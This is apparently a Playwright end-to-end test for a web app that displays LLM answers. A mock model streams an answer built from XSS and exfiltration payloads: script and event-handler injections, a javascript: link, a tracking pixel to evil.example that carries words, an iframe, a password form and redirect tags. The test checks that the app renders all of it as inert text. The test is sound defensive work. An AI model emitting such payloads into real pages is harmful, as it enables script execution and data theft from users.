import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { serve } from './serve'
import { expect, newPerson, signUp, test } from './test'

const port = Number(process.env['E2E_PORT']) + 8
const EVIL = 'https://evil.example'

/** What an answer may try: to run, to load, to lead away, to look like a page, to be more than text (LLM05, ASVS 1.3.5). */
const ANSWER = [
  '<script>window.__ran=1</script><img src=x onerror="window.__ran=1"><svg/onload=window.__ran=1>',
  `![pixel](${EVIL}/steal.png?q=words) [click](javascript:window.__ran=1) <a href="${EVIL}">home</a>`,
  `<iframe src="${EVIL}"></iframe><form action="${EVIL}"><input name=password></form>`,
  '<style>*{display:none}</style><base href="https://evil.example"><meta http-equiv=refresh content="0;url=/x">',
  '# A heading\n- a list\n`code`',
].join('\n')

test.describe('an answer that is an attack', () => {
  test.use({ baseURL: `http://localhost:${port}` })
  let model: Server
  let application: Awaited<ReturnType<typeof serve>>

  test.beforeAll(async () => {
    model = createServer((request, response) => {
      request.resume()
      const chunk = { id: '1', object: 'chat.completion.chunk', created: 1, model: 'test' }
      response.writeHead(200, { 'content-type': 'text/event-stream' })
      for (const content of ANSWER.match(/[^]{1,7}/g) ?? [])
        response.write(
          `data: ${JSON.stringify({ ...chunk, choices: [{ index: 0, delta: { content } }] })}\n\n`,
        )
      const end = { ...chunk, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }
      response.end(`data: ${JSON.stringify(end)}\n\ndata: [DONE]\n\n`)
    }).listen(0, '127.0.0.1')
    await once(model, 'listening')
    application = await serve(port, {
      LLM_BASE_URL: `http://127.0.0.1:${(model.address() as AddressInfo).port}/v1`,
      LLM_API_KEY: 'test-key',
      LLM_MODEL: 'test-model',
    })
  })
  test.afterAll(async () => {
    await application.stop()
    model.close()
  })

  test('is text on the page and in the history, runs nothing and asks nobody', async ({
    page,
    complaints,
  }) => {
    await signUp(page, newPerson())
    const elsewhere: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(`http://localhost:${port}/`)) elsewhere.push(request.url())
    })
    await page.goto(`${page.url()}/generate`)
    await page.getByLabel('Your request').fill('Describe the ferry at dawn.')
    await page.getByRole('button', { name: 'Generate' }).click()
    const answer = page.getByRole('region', { name: 'Answer' }).getByRole('article')
    await expect(answer).toContainText('# A heading')
    await expect(page.getByRole('region', { name: 'Answer' }).getByText('Done')).toBeVisible()
    await page.getByRole('region', { name: 'History' }).locator('summary').first().click()

    const shown = [answer, page.getByRole('region', { name: 'History' })]
    for (const place of [...shown, ...shown]) {
      await expect(place).toContainText('<script>window.__ran=1</script>')
      await expect(place).toContainText(`![pixel](${EVIL}/steal.png?q=words)`)
      expect(
        await place
          .locator('script, img, svg[onload], iframe, form, input, style, base, meta, h1, a[href*="evil"]')
          .count(),
      ).toBe(0)
    }
    expect(await page.evaluate(() => '__ran' in window)).toBe(false)
    expect(elsewhere).toEqual([])
    expect(complaints).toEqual([])
    // The twin: read as markup, the same answer is all of it, and the browser complains of what it tried.
    const asMarkup = await page.evaluate(
      (html) =>
        new DOMParser().parseFromString(html, 'text/html').querySelectorAll('script, img, iframe, form')
          .length,
      ANSWER,
    )
    expect(asMarkup).toBeGreaterThan(3)
    await expect.poll(() => complaints.splice(0).join('\n')).toContain('Content Security Policy')
  })
})
